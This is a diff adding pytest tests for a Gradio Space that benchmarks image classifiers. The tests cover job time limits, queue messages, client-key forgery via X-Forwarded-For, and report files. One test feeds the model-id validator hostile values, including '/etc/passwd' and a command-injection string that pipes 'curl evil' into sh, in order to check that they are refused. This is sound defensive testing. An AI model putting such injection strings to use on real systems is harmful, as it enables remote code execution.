@@ -6,6 +6,7 @@ from __future__ import annotations
 import importlib.util
 import inspect
 import json
+import os
 import re
 from pathlib import Path
 
@@ -166,6 +167,30 @@ def slow_job(task, model_id, options):
     return {}
 
 
+def test_a_job_that_cannot_finish_in_time_is_stopped_early(space, monkeypatch):
+    """slow_job's pace (0.6 s an image, 100 images: a minute) cannot fit a 20-s limit: once
+    its step has run long enough to trust the pace, it is stopped, saying so and what the
+    visitor can change -- not left to run into the limit."""
+    from hf_bgbench.space.safety import ThreadJob
+
+    def job_for(task, model_id, options):
+        return ThreadJob(slow_job, (task, model_id, options), seconds=20, hint="Try less.")
+
+    monkeypatch.setattr(space, "job_for", job_for)
+    monkeypatch.setattr(space, "SETTLE_SECONDS", 2)
+    seen = []
+    with pytest.raises(space.gr.Error) as info:
+        for out in space.score(
+            "tf_efficientnet_lite0", "in9-local", ["original"], False, progress=_quiet
+        ):
+            seen.append(out[0])
+    message = info.value.message
+    assert message.startswith("The job was stopped early: at its pace so far, its step ")
+    assert "in9/original alone needs about" in message and "could not finish" in message
+    assert message.endswith("Try less.") and seen[-1] == f"**Stopped:** {message}"
+    assert "took longer than" not in message  # not the time limit's message
+
+
 def test_a_visitor_who_leaves_stops_the_job(space, monkeypatch):
     """Gradio closes a job's generator when its visitor leaves (or presses Stop): the job's
     process is killed at once."""
@@ -312,6 +337,28 @@ def test_subset_runs_are_not_ranked(space, monkeypatch):
     assert space.read_rows(space.leaderboard_dir()) == []
 
 
+def colour_rule_task(task, model_id, options):
+    """Any task of the Space with the colour-rule classifier, through the library."""
+    from hf_bgbench.tasks import run_task
+    from tests.in9_fixture import ColourRuleClassifier
+
+    return run_task(task, ColourRuleClassifier(), **options | {"num_workers": 0})
+
+
+@pytest.mark.parametrize(("cap", "said"), [("100", False), ("5", True)])
+def test_a_challenge_says_subset_only_when_images_were_left_out(space, monkeypatch, cap, said):
+    """The Space caps the challenge at 100 foregrounds: on a dataset of 18, every image is
+    used, and the report does not call it a subset; a cap of 5 draws one, said plainly."""
+    monkeypatch.setenv("BGBENCH_SPACE_FOREGROUNDS", cap)
+    _job(space, monkeypatch, colour_rule_task)
+    out = _scored(
+        space, "tf_efficientnet_lite0", "in9-local", [], False, task="challenge", progress=_quiet
+    )
+    assert ("random subset (max_foregrounds=5, seed 0)" in out["report"]) is said
+    assert "max_backgrounds=200" not in out["report"]  # 18 backgrounds, all used
+    assert ("Added to the leaderboard" in out["report"]) is not said
+
+
 def test_jobs_have_their_own_concurrency_groups_and_page_events_skip_the_queue(space):
     demo = space.build_demo()
     assert demo._queue.default_concurrency_limit == space.CONCURRENCY == 1
@@ -332,6 +379,111 @@ def test_jobs_have_their_own_concurrency_groups_and_page_events_skip_the_queue(s
     cancelling = [fn for fn in demo.fns.values() if getattr(fn, "is_cancel_function", False)]
     assert [by_name["score"]._id] in [list(fn.cancels) for fn in cancelling]
     assert [by_name["report_card"]._id] in [list(fn.cancels) for fn in cancelling]
+
+
+class _Headers(dict):
+    """Request headers as Starlette keeps them: a header may come more than once."""
+
+    def __init__(self, pairs):
+        super().__init__(pairs)
+        self.pairs = pairs
+
+    def getlist(self, name):
+        return [v for k, v in self.pairs if k == name]
+
+
+def _request(host, *forwarded):
+    from types import SimpleNamespace
+
+    headers = _Headers([("x-forwarded-for", f) for f in forwarded])
+    return SimpleNamespace(headers=headers, client=SimpleNamespace(host=host))
+
+
+def test_a_client_cannot_forge_its_key(space, monkeypatch):
+    """The one-job-per-client limit keys on what the client cannot write: without a trusted
+    proxy the connection's address (X-Forwarded-For unread); behind one, the entry it
+    appended -- whatever the client put before it."""
+    monkeypatch.setattr(space, "TRUSTED_PROXIES", 0)
+    assert space.client_key(_request("10.1.1.1", "6.6.6.6")) == "10.1.1.1"
+    assert space.client_key(_request("10.1.1.1", "7.7.7.7")) == "10.1.1.1"
+    monkeypatch.setattr(space, "TRUSTED_PROXIES", 1)
+    forged = [_request("10.0.0.9", f"{fake}, 203.0.113.5") for fake in ("6.6.6.6", "7.7.7.7")]
+    assert {space.client_key(r) for r in forged} == {"203.0.113.5"}
+    assert space.client_key(_request("10.0.0.9", "6.6.6.6", "203.0.113.5")) == "203.0.113.5"
+    assert space.client_key(_request("10.0.0.9")) == "10.0.0.9"
+    # uvicorn's own reading of the header (it trusts 127.0.0.1 by default) is off
+    assert os.environ["FORWARDED_ALLOW_IPS"] == ""
+
+
+@pytest.mark.parametrize("model", ["/etc/passwd", "https://evil/x", "owner/x;curl evil|sh"])
+def test_a_refused_model_id_is_refused_before_queuing(space, model):
+    """Every job button's validator -- which Gradio runs before it queues the job, so the
+    visitor never waits behind the queue to hear it -- refuses a model id the checks refuse,
+    and the click's status line (outside the queue) says why at once."""
+    from hf_bgbench.space.safety import MODEL_HINT
+
+    checks = {
+        "score": space.one_score_per_client(model, "in9-local", ["original"], False, "in9", "x"),
+        "explore": space.one_explore_per_client(model, "in9-local", "in9", "x"),
+        "report": space.one_report_per_client(model),
+    }
+    for name, (first, *_) in checks.items():
+        assert first["is_valid"] is False, name
+        assert first["message"].endswith(MODEL_HINT), name
+    assert space.click_status(model, space.JOB_GROUP, None).startswith("**Stopped:** ")
+    fine = space.one_score_per_client("timm/resnet50.a1_in1k", "in9-local", [], False, "in9", "x")
+    assert all(v["is_valid"] for v in fine)
+    assert space.click_status("timm/resnet50.a1_in1k", space.JOB_GROUP, None) == space.gr.skip()
+    with pytest.raises(space.gr.Error, match="paths and links|only letters"):
+        space.model_gate(model)
+    space.model_gate("timm/resnet50.a1_in1k")
+    # on the page, each job's button first checks the id outside the queue; the job is
+    # queued only when that succeeded
+    demo = space.build_demo()
+    by_fn: dict = {}
+    for fn in demo.fns.values():
+        by_fn.setdefault(fn.name, []).append(fn)
+    assert len(by_fn["status_at_click"]) == len(by_fn["model_gate"]) == 3
+    assert all(fn.queue is False for fn in by_fn["status_at_click"] + by_fn["model_gate"])
+    gates = {fn._id for fn in by_fn["model_gate"]}
+    config = demo.get_config_file()["dependencies"]
+    for name in ("score", "explore", "report_card"):
+        (dep,) = [d for d in config if d["id"] == by_fn[name][0]._id]
+        assert dep["trigger_after"] in gates and dep["trigger_only_on_success"], name
+
+
+def test_a_queued_visitor_is_told_their_place_and_an_estimate(space, monkeypatch):
+    """At the click, a visitor whose job must wait is told their place in line and an
+    estimate from this Space's own finished jobs (none until one has finished); one whose
+    job cannot be queued is told why, in the status line."""
+    from types import SimpleNamespace
+
+    monkeypatch.setattr(space, "JOB_TIMES", space.JobTimes())
+    job = SimpleNamespace(concurrency_id=space.JOB_GROUP, alive=True, request=None)
+    queue = SimpleNamespace(
+        event_queue_per_concurrency_id={space.JOB_GROUP: SimpleNamespace(queue=[job, job])},
+        active_jobs=[[job]],
+    )
+    monkeypatch.setattr(space, "_queue", lambda: queue)
+    said = space.click_status("timm/resnet50.a1_in1k", space.JOB_GROUP, None)
+    assert said.startswith("**Queued:** your job is number 3 in line, behind 1 running and 2")
+    assert "No estimate yet: no job has finished since this Space started" in said
+    for seconds in (100, 140, 120):
+        space.JOB_TIMES.add(seconds)
+    said = space.click_status("timm/resnet50.a1_in1k", space.JOB_GROUP, None)
+    # three jobs ahead, 2 min each at the median of this Space's last three
+    assert "start in about 6 min 00 s (this Space's last 3 jobs took 2 min 00 s" in said
+    monkeypatch.setattr(space, "QUEUE_SIZE", 2)
+    said = space.click_status("timm/resnet50.a1_in1k", space.JOB_GROUP, None)
+    assert said.startswith("**Not queued:** the queue is full (2 jobs waiting)")
+    monkeypatch.setattr(space, "jobs_of", lambda key, group: 1)
+    said = space.click_status("timm/resnet50.a1_in1k", space.JOB_GROUP, None)
+    assert said.startswith("**Not queued:** you already have a job waiting or running")
+    # a free slot: nothing to say, the job's own first update follows at once
+    queue.event_queue_per_concurrency_id[space.JOB_GROUP].queue = []
+    queue.active_jobs = []
+    monkeypatch.setattr(space, "jobs_of", lambda key, group: 0)
+    assert space.click_status("timm/resnet50.a1_in1k", space.JOB_GROUP, None) == space.gr.skip()
 
 
 def test_time_limits_fit_the_task(space, monkeypatch):
@@ -531,9 +683,44 @@ def test_space_report_card_renders_the_report_section(in9_release, tmp_path, mon
     assert '<img src="data:image/png;base64,' in figure and "reliance_profile.png" in figure
     # a benchmark without data is said, not silently dropped
     assert "This Space offers no data for ImageNet-E, RIVAL10" in section
+    # the report's own files, no bookkeeping file; no eval results: a local copy was scored
     names = {Path(f).name for f in files}
-    assert {"report.md", "report.json", "eval_results_in9.yaml"} <= names
+    assert names == {"report.md", "report.json", "reliance_profile.png"}
     for f in files:  # nothing the visitor downloads or reads names a server path
         if f.endswith((".md", ".json", ".yaml")):
             assert str(in9_release) not in Path(f).read_text()
     assert str(in9_release) not in section
+    # its list of files names only what the page offers: no task folder
+    listed = re.findall(r"^- `([^`]+)`", section.split("### Files", 1)[1], re.M)
+    assert listed and set(listed) <= names, listed
+    # the time limit counts the tasks that run: IN-9's report tasks only (the other
+    # benchmarks have no data here)
+    in9_tasks = set(app.get_benchmark("in9").report_tasks)
+    assert app.report_seconds() == sum(app.job_seconds(t) for t in in9_tasks)
+
+
+def test_the_report_card_offers_the_files_the_report_wrote(space, tmp_path):
+    """Eval-results files are offered (a download has no folders: by a flat name) when the
+    report wrote them -- as report.json lists them --, never the folder's bookkeeping file,
+    and the report's list of files names what is offered."""
+    out = tmp_path / "report"
+    (out / ".eval_results").mkdir(parents=True)
+    (out / ".eval_results" / "in9.yaml").write_text("- task: in9\n")
+    (out / ".eval_results" / ".bgbench-manifest.json").write_text("{}")
+    (out / "report.json").write_text(json.dumps({"eval_results": [".eval_results/in9.yaml"]}))
+    (out / "reliance_profile.png").write_bytes(b"png")
+    (out / "report.md").write_text(
+        "# Report\n\n### Files\n\n- `in9/evaluate/`: the evaluate task's results\n"
+        "- `.eval_results/in9.yaml`: Hub evaluation results\n"
+        "- `report.json`: everything above\n\n### After\n\n- `x/`: kept\n"
+    )
+    files = space.report_files(out, {})
+    assert [Path(f).name for f in files] == [
+        "report.md",
+        "report.json",
+        "eval_results_in9.yaml",
+        "reliance_profile.png",
+    ]
+    text = Path(files[0]).read_text()
+    assert "in9/evaluate/" not in text and "`eval_results_in9.yaml`" in text
+    assert "`report.json`" in text and "- `x/`: kept" in text  # other sections untouched
